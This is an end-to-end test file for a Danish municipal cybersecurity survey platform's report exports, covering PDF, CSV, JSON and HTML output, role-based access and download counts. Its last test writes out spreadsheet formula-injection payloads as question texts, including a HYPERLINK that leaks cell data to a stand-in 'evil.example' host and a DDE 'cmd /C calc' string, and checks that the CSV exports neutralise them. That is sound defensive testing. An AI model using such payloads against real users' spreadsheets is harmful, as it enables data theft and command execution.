import request from 'supertest';
import { ReportJobsService } from '@app/reports';
import { StatisticsRecomputeService } from '@app/statistics';
import { EditionsService } from '@app/surveys';
import { seedDemoStatistics } from './support/demo-statistics';
import { createTestApp, TestApp } from './support/test-app';
import { createUser, tokenFor } from './support/factories';
import { createMiniEdition, miniQuestionnaire } from './support/mini-editions';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const pdfParse = require('pdf-parse/lib/pdf-parse.js') as (
  data: Buffer,
) => Promise<{ text: string; numpages: number }>;

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};
const danish = (v: number) => v.toFixed(2).replace('.', ',');

describe('Reports (e2e)', () => {
  let t: TestApp;
  let officer: string;
  let kl: string;
  const ids: Record<number, string> = {};
  const base = (year: number) => `/api/v1/editions/${ids[year]}/reports`;

  beforeAll(async () => {
    t = await createTestApp();
    Object.assign(ids, await seedDemoStatistics(t));
    officer = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 151));
    kl = await tokenFor(t.http, await createUser(t.db, 'kl_analyst'));
  }, 60_000);
  afterAll(() => t.close());

  it("gives Ballerup's officer Ballerup's report as a PDF with its figures and charts", async () => {
    const res = await request(t.http)
      .get(`${base(2024)}/municipalities/151.pdf`)
      .auth(officer, { type: 'bearer' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toContain('baseline-2024-kommune-151.pdf');
    expect(res.headers.etag).toMatch(/^"[0-9a-f]{64}"$/);
    const pdf = await pdfParse(res.body as Buffer);
    const own = await request(t.http)
      .get(`/api/v1/editions/${ids[2024]}/statistics/municipalities/151`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(pdf.numpages).toBeGreaterThanOrEqual(3);
    expect(pdf.text).toContain('Ballerup');
    expect(pdf.text).toContain(danish(own.body.overall.own));
    expect(pdf.text).toContain(danish(own.body.overall.nationalMean));
    expect((res.body as Buffer).toString('latin1')).toMatch(/\/Subtype\s*\/Image/);
  });

  it('has the same figures in CSV and JSON as the statistics routes', async () => {
    const stats = await request(t.http)
      .get(`/api/v1/editions/${ids[2024]}/statistics/municipalities/151`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const national = await request(t.http)
      .get(`/api/v1/editions/${ids[2024]}/statistics/national`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const json = await request(t.http)
      .get(`${base(2024)}/municipalities/151.json`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(json.body.figures.overall).toEqual(stats.body.overall);
    expect(json.body.figures.areas).toEqual(stats.body.areas);

    const csv = await request(t.http)
      .get(`${base(2024)}/municipalities/151.csv`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/);
    expect(lines[0]).toBe(
      'key,text,own_value,national_mean,national_median,national_q1,national_q3,n,suppressed',
    );
    expect(lines).toHaveLength(1 + national.body.questions.length);
    type Question = { key: string; mean: number | null; median: number; q1: number; q3: number; n: number };
    const own = (key: string) => stats.body.questions.find((q: { key: string }) => q.key === key).own;
    // A question with every level shown has its figures in the CSV as in the API …
    const shown: Question = national.body.questions.find((q: Question) => q.mean !== null);
    expect(lines.find((l) => l.startsWith(`${shown.key},`))).toContain(
      `,${own(shown.key)},${shown.mean},${shown.median},${shown.q1},${shown.q3},${shown.n},false`,
    );
    // … and access.mfa, whose levels 2 and 5 are hidden, has n and no mean, median or quartiles
    // (they would solve the hidden levels, docs/statistics.md).
    const mfa: Question = national.body.questions.find((q: Question) => q.key === 'access.mfa');
    expect(mfa).toMatchObject({ mean: null, median: null, q1: null, q3: null, n: 84 });
    expect(lines.find((l) => l.startsWith('access.mfa,'))).toContain(`,${own('access.mfa')},,,,,84,false`);
  });

  it("prints attacks and breaches in every format as mean and n, never as a median that is one municipality's answer", async () => {
    const get = (path: string, token = officer) =>
      request(t.http)
        .get(`${base(2024)}/${path}`)
        .auth(token, { type: 'bearer' })
        .expect(200);
    const orderStatistic = /^(national)?(median|q1|q3)$/i;
    const national = (await get('national.json', kl)).body.national;
    const own = (await get('municipalities/151.json')).body.figures;
    expect(national.numbers.length).toBeGreaterThan(0);
    for (const row of [...national.numbers, ...own.numbers]) {
      expect(Object.keys(row).filter((key) => orderStatistic.test(key))).toEqual([]);
    }
    const attacks = own.numbers.find((n: { key: string }) => n.key === 'incidents.attacks-per-day');
    expect(attacks.nationalMean).toBe(
      national.numbers.find((n: { key: string }) => n.key === 'incidents.attacks-per-day').mean,
    );

    const pdf = await pdfParse((await get('municipalities/151.pdf').buffer(true).parse(binary)).body);
    const html = (await get('municipalities/151.html')).text;
    const nationalHtml = (await get('national.html', kl)).text;
    const numbersSection = (text: string) => text.slice(text.indexOf('Angreb og brud'));
    expect(numbersSection(pdf.text)).toContain('Landsgennemsnit');
    for (const text of [pdf.text, html, nationalHtml].map(numbersSection)) {
      expect(text).not.toMatch(/Landsmedian|Midterste halvdel|Nedre kvartil|Øvre kvartil/);
    }
  });

  it('serves the HTML report with the chart configurations for the browser', async () => {
    const res = await request(t.http)
      .get(`${base(2024)}/municipalities/151.html`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(res.headers['content-type']).toContain('text/html');
    const configs = [...res.text.matchAll(/data-chart='([^']+)'|data-chart="([^"]+)"/g)];
    expect(configs.length).toBeGreaterThan(0);
    expect(res.text).toContain('/assets/chartjs/chart.umd.js');
  });

  it("keeps Ballerup's report from other municipalities, KL, KommuneCERT and strangers", async () => {
    const other = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 147));
    const cert = await tokenFor(t.http, await createUser(t.db, 'cert_analyst'));
    const admin = await tokenFor(t.http, await createUser(t.db, 'platform_admin'));
    for (const format of ['pdf', 'csv', 'json', 'html']) {
      for (const token of [other, kl, cert, admin]) {
        const res = await request(t.http)
          .get(`${base(2024)}/municipalities/151.${format}`)
          .auth(token, { type: 'bearer' });
        expect(res.status).toBe(403);
      }
      await request(t.http)
        .get(`${base(2024)}/municipalities/151.${format}`)
        .expect(401);
    }
    await request(t.http)
      .get(`${base(2024)}/municipalities/151.exe`)
      .auth(officer, { type: 'bearer' })
      .expect(404);
    await request(t.http)
      .get(`/api/v1/editions/${ids[2025]}/reports/national.pdf`)
      .auth(kl, { type: 'bearer' })
      .expect(404);
  });

  it('gives everyone the national report: 84 participants, 3.36 against 4.13', async () => {
    const json = await request(t.http)
      .get(`${base(2024)}/national.json`)
      .auth(kl, { type: 'bearer' })
      .expect(200);
    expect(json.body.national.participation.participants).toBe(84);
    const pdfRes = await request(t.http)
      .get(`${base(2024)}/national.pdf`)
      .auth(officer, { type: 'bearer' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    const pdf = await pdfParse(pdfRes.body as Buffer);
    expect(pdf.text).toContain('84');
    expect(pdf.text).toContain(danish(json.body.national.overall.mean));
    expect(pdf.text).toContain(danish(json.body.national.overall.previousMean));
    expect(Math.abs(json.body.national.overall.mean - 3.36)).toBeLessThanOrEqual(0.02);
  });

  it('counts each download once (a 304 is not a download) and shows KL the usage', async () => {
    await t.db.query('DELETE FROM report_downloads');
    const first = await request(t.http)
      .get(`${base(2024)}/municipalities/151.csv`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    await request(t.http)
      .get(`${base(2024)}/municipalities/151.csv`)
      .auth(officer, { type: 'bearer' })
      .set('If-None-Match', first.headers.etag)
      .expect(304);
    await request(t.http)
      .get(`${base(2024)}/municipalities/151.pdf`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const [{ count }] = await t.db.query(
      'SELECT count(*)::int AS count FROM report_downloads WHERE municipality_code = 151',
    );
    expect(count).toBe(2);
    const usage = await request(t.http).get('/api/v1/usage').auth(kl, { type: 'bearer' }).expect(200);
    expect(usage.body.downloads).toEqual(
      expect.arrayContaining([expect.objectContaining({ year: 2024, municipalityCode: 151, downloads: 2 })]),
    );
    expect(usage.body.activeMunicipalitiesPerMonth.length).toBeGreaterThan(0);
    await request(t.http).get('/api/v1/usage').auth(officer, { type: 'bearer' }).expect(403);
  });

  it('renders in the background, stored with its statistics version, and never serves an outdated copy', async () => {
    const jobs = t.app.get(ReportJobsService);
    const [{ version }] = await t.db.query('SELECT version FROM statistics_state WHERE edition_id = $1', [
      ids[2024],
    ]);
    await jobs.render(ids[2024], 'municipality', 101, version);
    const stored = await t.db.query(
      `SELECT format, statistics_version FROM reports WHERE edition_id = $1 AND municipality_code = 101 ORDER BY format`,
      [ids[2024]],
    );
    expect(stored).toEqual(
      ['csv', 'html', 'json', 'pdf'].map((format) => ({ format, statistics_version: version })),
    );

    const before = await request(t.http)
      .get(`${base(2024)}/municipalities/151.json`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    await t.app.get(StatisticsRecomputeService).run(ids[2024]);
    const after = await request(t.http)
      .get(`${base(2024)}/municipalities/151.json`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(Number(after.headers['x-statistics-version'])).toBe(
      Number(before.headers['x-statistics-version']) + 1,
    );
  });

  it('neutralises question texts that a spreadsheet would run as formulas, in every CSV export', async () => {
    const hostile: Record<string, string> = {
      'a.one': '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
      'a.two': '-2+3',
      'b.one': '@SUM(1,2)',
      'n.attacks': "+1+cmd|' /C calc'!A0",
    };
    const def = miniQuestionnaire({ key: 'b.one' });
    for (const q of def.areas.flatMap((a) => a.questions)) q.text.da = hostile[q.key];
    const answers = Object.fromEntries(
      [101, 147, 151, 153, 155, 157].map((code, i) => [
        code,
        { 'a.one': 1 + (i % 5), 'a.two': 2, 'b.one': 3, 'n.attacks': 4 },
      ]),
    );
    const id = await createMiniEdition(t.db, t.app.get(EditionsService), 2031, def, answers);
    await request(t.http).post(`/api/v1/editions/${id}/publish`).auth(kl, { type: 'bearer' }).expect(200);
    await t.app.get(StatisticsRecomputeService).run(id);
    const officer101 = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 101));
    for (const [path, token] of [
      ['national.csv', kl],
      ['municipalities/101.csv', officer101],
    ]) {
      const csv = await request(t.http)
        .get(`/api/v1/editions/${id}/reports/${path}`)
        .auth(token, { type: 'bearer' })
        .expect(200);
      const cells = csv.text
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n')
        .map((line) => line.split(',')[0]);
      expect(cells).toContain('a.one');
      // A cell a spreadsheet runs starts (after the opening quote, if quoted) with = + - or @.
      expect(csv.text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
      expect(csv.text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klik"")",`);
      expect(csv.text).toContain(`,"'-2+3",`);
      expect(csv.text).toContain(`,"'@SUM(1,2)",`);
    }
  });
});
